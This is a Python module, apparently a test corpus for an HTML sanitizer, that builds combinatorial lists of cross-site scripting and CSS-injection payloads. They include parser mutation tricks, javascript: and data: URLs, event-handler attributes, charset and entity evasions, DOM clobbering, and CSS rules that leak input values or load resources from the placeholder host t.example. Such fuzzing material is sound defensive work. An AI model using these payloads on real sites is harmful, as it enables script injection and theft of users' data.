"""Hostile constructs by class, beyond the corpus: each class is a few ways in, combined with a few ways to act.

Whatever one of them does, it does by a script that calls ``alert``, or by asking the host ``t.example`` for something.
"""

from __future__ import annotations

from itertools import product

RUN = "<img src=x onerror=alert(1)>"
LOAD = "https://t.example/x"

# A text that is no markup where it stands, and becomes markup for a parser that sees other elements around it.
_OUTER = """
<math>
<math><mtext>
<math><mi><table><mglyph>
<math><annotation-xml encoding="text/html">
<math><annotation-xml encoding="application/xhtml+xml">
<svg>
<svg><desc>
<svg><foreignObject>
<svg></p>
<svg><title><svg>
<table><svg>
<table><caption><svg><desc><table><caption><svg>
<select><svg>
<form><math><mtext></form><form><mglyph>
<noscript>
<template>
<iframe>
<noframes>
<noembed>
<xmp>
<textarea>
<select><option>
<frameset>
<p><template>
<math><mtext><option><FAKE><option></option><mglyph>
<svg><p><style>
<b><svg><style>
<table><tr><td><math><mtext>
<plaintext>
<a><svg><a>
<nobr><svg><nobr>
"""
_INNER = (
    "<style><!--</style>{run}-->",
    "<style><p title='</style>{run}'></style>",
    '<style><a title="</style>{run}">',
    "<title><p title='</title>{run}'>",
    "<p title='</noscript></template></textarea></xmp></iframe>{run}'>",
    "<!--<p title='-->{run}'>",
    "<![CDATA[<p title=']]>{run}'>",
    "<desc>&lt;/desc&gt;{escaped}</desc>",
    "<a href='{escaped}'>x</a><!-- --!>{run}",
    "</p><p title='{run}'></br>{run}",
)
MUTATIONS = [
    outer + inner.format(run=RUN, escaped=RUN.replace("<", "&lt;").replace(">", "&gt;"))
    for outer, inner in product(filter(None, _OUTER.split("\n")), _INNER)
]

_ADDRESSES = (
    "javascript:alert(1)",
    "JAVASCRIPT&colon;alert(1)",
    "java&Tab;script&NewLine;:alert(1)",
    "&#106avascript&#58alert(1)",
    "\x01javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "javascript&#0000000000000000058;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg",
    "vbscript:msgbox(1)",
    "view-source:javascript:alert(1)",
    "blob:https://t.example/1",
    "filesystem:https://t.example/temporary/x",
    "//t.example/x",
    "\\\\t.example\\x",
    "https:t.example/x",
    LOAD,
)
_PLACES = """
<a href="{}">x</a>
<a href="{}" target=_self>x</a>
<a href="{}" target=_top>x</a>
<a href="{}" download>x</a>
<a xlink:href="{}">x</a>
<svg><a xlink:href="{}"><text y=20>x</text></a></svg>
<svg><a href="{}"><text y=20>x</text></a></svg>
<math><mi href="{}" xlink:href="{}">x</mi></math>
<map name=m><area shape=default href="{}"></map><img usemap=#m width=50 height=50>
<form action="{}"><input type=submit></form>
<form id=f></form><button form=f formaction="{}">x</button>
<form><input type=image formaction="{}" src="{}"></form>
<iframe src="{}"></iframe>
<iframe srcdoc="<a target=_parent href='{}'>x</a>"></iframe>
<frameset><frame src="{}"></frameset>
<object data="{}"></object>
<embed src="{}">
<base href="{}"><a href=x>x</a><img src=x>
<meta http-equiv=refresh content="0;url={}">
<link rel=stylesheet href="{}">
<link rel=icon href="{}">
<link rel=prefetch href="{}"><link rel=prerender href="{}"><link rel=preload as=image href="{}"><link rel=modulepreload href="{}">
<link rel=dns-prefetch href="{}"><link rel=preconnect href="{}">
<img src="{}">
<img srcset="{} 1x">
<picture><source srcset="{}"><img></picture>
<img src=x lowsrc="{}" dynsrc="{}" longdesc="{}">
<video src="{}" poster="{}" autoplay></video>
<audio src="{}" autoplay></audio>
<video><track src="{}" default></video>
<table background="{}"><tr><td background="{}">x
<body background="{}">
<svg><image href="{}" width=9 height=9 /></svg>
<svg><use href="{}"/></svg>
<svg><feImage href="{}"/></svg>
<svg><animate attributeName=href values="{}"/></svg>
<svg><a><set attributeName=href to="{}"/><text y=20>x</text></a></svg>
<svg><script href="{}"></script></svg>
<script src="{}"></script>
<a href=# ping="{}">x</a>
<a href="https://ok.example/" ping="{}" attributionsrc="{}">x</a>
<img src=x attributionsrc="{}">
<blockquote cite="{}">x</blockquote>
<bgsound src="{}">
<input type=image src="{}">
<html manifest="{}">
<portal src="{}">
<fencedframe src="{}"></fencedframe>
<applet code="{}" archive="{}">
<isindex action="{}">
<command icon="{}">
<model src="{}"></model>
"""
ADDRESSES = [place.replace("{}", address) for place, address in product(filter(None, _PLACES.split("\n")), _ADDRESSES)]

_VALUES = (
    "url(https://t.example/x)",
    "url('https://t.example/x')",
    "\\75 rl(https://t.example/x)",
    "u\\rl(https://t.example/x)",
    "u\\72\\6c(https://t.example/x)",
    "URL(//t.example/x)",
    "url(  \\68ttps://t.example/x",
    "image-set('https://t.example/x' 1x)",
    "-webkit-image-set(url(https://t.example/x) 1x)",
    "image-set(linear-gradient(red,red) 1x, 'https://t.example/x' 2x)",
    "cross-fade(url(https://t.example/x), red)",
    "image('https://t.example/x')",
    "src('https://t.example/x')",
    "var(--x, url(https://t.example/x))",
    "var(--x,var(--y,url(https://t.example/x)))",
    "env(x, url(https://t.example/x))",
    "attr(title type(<url>))",
    "if(else: url(https://t.example/x))",
    "element(#x)",
    "paint(x)",
    "expression(alert(1))",
    "red;background:url(https://t.example/x)",
    "red/**/;/**/background/**/:/**/url(https://t.example/x)",
    "'\\\n';background:url(https://t.example/x)",
    "red}*{background:url(https://t.example/x)",
    "</style><img src=x onerror=alert(1)>",
    "\\3c/style>\\3cimg src=x onerror=alert(1)>",
    "red\x00;background:url(https://t.example/x)",
    "red\x0c;background:url(https://t.example/x)",
    "(red;background:url(https://t.example/x))",
    "calc(1px + url(https://t.example/x))",
    "linear-gradient(red, url(https://t.example/x))",
)
_PROPERTY_NAMES = """
background background-image list-style list-style-image cursor content border-image border-image-source mask mask-image -webkit-mask-image
filter backdrop-filter clip-path shape-outside offset-path behavior -moz-binding --x src font-family fill marker-end -webkit-box-reflect
"""
_PROPERTIES = _PROPERTY_NAMES.split()
STYLES = [
    form.format(f"{name}:{value}")
    for (name, value), form in zip(
        product(_PROPERTIES, _VALUES),
        ["<p style='--x:url(https://t.example/x);{}'>x</p>", "<style>*{{--x:url(https://t.example/x);{}}}</style><p>x</p>"] * 10_000,
        strict=False,
    )
]
SHEETS = [
    f"<style>{sheet}</style><p class=x>x</p><input value=secret>"
    for sheet in (
        "@import 'https://t.example/x';p{color:red}",
        "@import url(https://t.example/x) layer(a) supports(display:grid) screen;",
        "@\\69mport 'https://t.example/x';",
        "<!--@import 'https://t.example/x';-->",
        "@charset 'utf-7';@import 'https://t.example/x';",
        "@font-face{font-family:a;src:url(https://t.example/x)}p{font-family:a}",
        "@namespace url(https://t.example/x);",
        "@layer a{p{background:url(https://t.example/x)}}",
        "@supports (color:red){p{background:url(https://t.example/x)}}",
        "@container (width>1px){p{background:url(https://t.example/x)}}",
        "@scope (p){:scope{background:url(https://t.example/x)}}",
        "@starting-style{p{background:url(https://t.example/x)}}",
        "@property --x{syntax:'<url>';inherits:true;initial-value:url(https://t.example/x)}p{background:var(--x)}",
        "@counter-style a{system:cyclic;symbols:url(https://t.example/x)}p{list-style:a;display:list-item}",
        "@keyframes a{from{background:url(https://t.example/x)}}p{animation:a 1s}",
        "@page{background:url(https://t.example/x)}",
        "@document url(https://t.example/){p{color:red}}",
        "@view-transition{navigation:auto}@font-palette-values --a{font-family:x}",
        "input[value^=s]{background:url(https://t.example/s)}",
        "p{&:hover{background:url(https://t.example/x)}}",
        "p{color:red;&{background:url(https://t.example/x)}}",
        "p{@media screen{background:url(https://t.example/x)}}",
        "@media screen{@media print{}@import 'https://t.example/x';}",
        "@media screen and (x:url(https://t.example/x)){p{color:red}}",
        "p:has(+ input){background:url(https://t.example/x)}",
        "p::before{content:url(https://t.example/x)}",
        "a[href='</style><script>alert(1)</script>']{color:red}",
        "p{font-family:'</style><script>alert(1)</script>'}",
        "p{color:red;}</style ><script>alert(1)</script>",
        "p{color:'\\",
        "p{color:red/*",
        "p{background:url('https://t.example/x",
    )
]
_ATTRIBUTES = """
popovertarget=p popovertargetaction=show
command=show-modal commandfor=p
commandfor=p command=--x
form=f formaction=//t.example formtarget=_top
accesskey=x contenteditable
tabindex=1 onfocus=alert(1) autofocus
style=animation-name:x onanimationstart=alert(1)
oncontentvisibilityautostatechange=alert(1)
onbeforetoggle=alert(1) popover=auto
onscrollend=alert(1)
onpointerrawupdate=alert(1)
is=x-y
slot=x part=y exportparts=z
shadowrootmode=open
interestfor=p interesttarget=p oninterest=alert(1)
ontoggle=alert(1) open
onerror=alert(1) src=x
onbegin=alert(1)
onwebkittransitionend=alert(1) style=transition:1s
ONCLICK=alert(1)
on\x00click=alert(1)
/onclick=alert(1)
onclick\x0c=alert(1)
"onclick=alert(1)
'onclick=alert(1)
xmlns:onclick=alert(1)
{{onclick}}=alert(1)
ng-app ng-csp>{{constructor.constructor('alert(1)')()}}<i
v-html=alert(1) @click=alert(1)
hx-get=//t.example/x hx-trigger=load
data-x="><script>alert(1)</script>
itemprop=url itemscope itemtype=//t.example/x
nonce=x integrity=x crossorigin fetchpriority=high
referrerpolicy=unsafe-url target=_parent
download=x.exe
"""
_ELEMENTS = (
    "a href=https://t.example/x",
    "button",
    "div",
    "p",
    "details",
    "summary",
    "img",
    "input",
    "table",
    "svg",
    "x-y",
    "dialog",
    "slot",
    "font",
)
ATTRIBUTES = [
    f"<{element} {attribute}>x</{element.split()[0]}><dialog id=p popover>y</dialog>"
    for element, attribute in product(_ELEMENTS, filter(None, _ATTRIBUTES.split("\n")))
]
CHARSETS = [
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<meta http-equiv=content-type content='text/html;charset=iso-2022-jp'><p title='\x1b$@'>\x1b(B<img src=x onerror=alert(1)>'>",
    "<meta charset=iso-2022-jp><a title='\x1b(J'>\\<img src=x onerror=alert(1)>\x1b(B'>x</a>",
    "<meta charset=utf-16>" + "<script>alert(1)</script>".encode("utf-16-le").decode("latin-1"),
    "<meta charset=x-user-defined>\uf7bcscript\uf7bealert(1)\uf7bc/script\uf7be",
    "<meta charset=gbk><p title='\u00bf'onmouseover=alert(1)>x",
    "\ufeff<script>alert(1)</script>",
    "<\u017fcript>alert(1)</\u017fcript>",
    "<\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "&ltscript&gtalert(1)&lt/script&gt",
    "&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;script&amp;gt;",
    "<a href=&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a&#x61lert(1)>x</a>",
    "<a href='java&#115;cript&colon;alert&lpar;1&rpar;'>x</a>",
    "<p title='&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'>x",
    '<p title="&#34>&ltimg src=x onerror=alert(1)&gt">x',
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<img\x0bsrc=x\x0bonerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)",
    "<img \ud800src=x onerror=alert(1)>",
]
SHADOWS = [
    "<div><template shadowrootmode=open><img src=https://t.example/x onerror=alert(1)></template></div>",
    "<template shadowrootmode=closed><script>alert(1)</script></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc='<iframe srcdoc=&quot;<img src=https://t.example/x>&quot;></iframe>'></iframe>",
    "<iframe name=x src='about:blank'></iframe><a target=x href='javascript:alert(1)'>x</a>",
    "<iframe sandbox='allow-scripts allow-same-origin' srcdoc='<script>parent.alert(1)</script>'></iframe>",
    '<script type=speculationrules>{"prefetch":[{"urls":["https://t.example/x"]}]}</script>',
    '<script type=importmap>{"imports":{"a":"https://t.example/x"}}</script><script type=module>import \'a\'</script>',
    "<select><button><selectedcontent></selectedcontent></button><option><img src=https://t.example/x></option></select>",
    "<selectlist><img src=x onerror=alert(1)></selectlist>",
    "<dialog open><form method=dialog><button>x</button></form><img src=https://t.example/x></dialog>",
    "<details name=x open><summary>x</summary><img src=https://t.example/x loading=lazy></details>",
    "<div popover id=p><img src=https://t.example/x></div><button popovertarget=p>x</button>",
    "<form id=a><input name=parentNode><input name=attributes><input name=nodeName></form>",
    "<a id=document><a id=document name=cookie href='clobbered:1'>x</a>",
    "<math><maction actiontype='statusline#https://t.example' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<object type=text/html data='data:text/html,<script>alert(1)</script>'></object>",
    "<object classid=clsid:1 codebase=https://t.example/x><param name=movie value=https://t.example/x></object>",
    "<xml id=x><a>&lt;img src=x onerror=alert(1)&gt;</a></xml><span datasrc=#x datafld=a dataformatas=html></span>",
    "<?xml-stylesheet href='https://t.example/x'?><x/>",
    "<!doctype html [<!entity x SYSTEM 'https://t.example/x'>]><p>&x;</p>",
    "<!--[if gte mso 9]><v:rect><v:imagedata src='https://t.example/x'/></v:rect><![endif]-->",
    "<v:rect xmlns:v='urn:schemas-microsoft-com:vml' style='behavior:url(#default#VML)'><v:fill src='https://t.example/x'/></v:rect>",
    "<table><tr><td>x</td></tr><form action=https://t.example/x><input type=submit></table>",
    "<input type=password name=p autocomplete=current-password><input type=hidden name=x value=y>",
    "<keygen name=x challenge=y autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1) onfinish=alert(1) loop=1 width=1>x</marquee>",
]
CLASSES = {
    "mutations": MUTATIONS,
    "addresses": ADDRESSES,
    "styles": STYLES,
    "style sheets": SHEETS,
    "attributes": ATTRIBUTES,
    "encodings": CHARSETS,
    "trees within trees": SHADOWS,
}
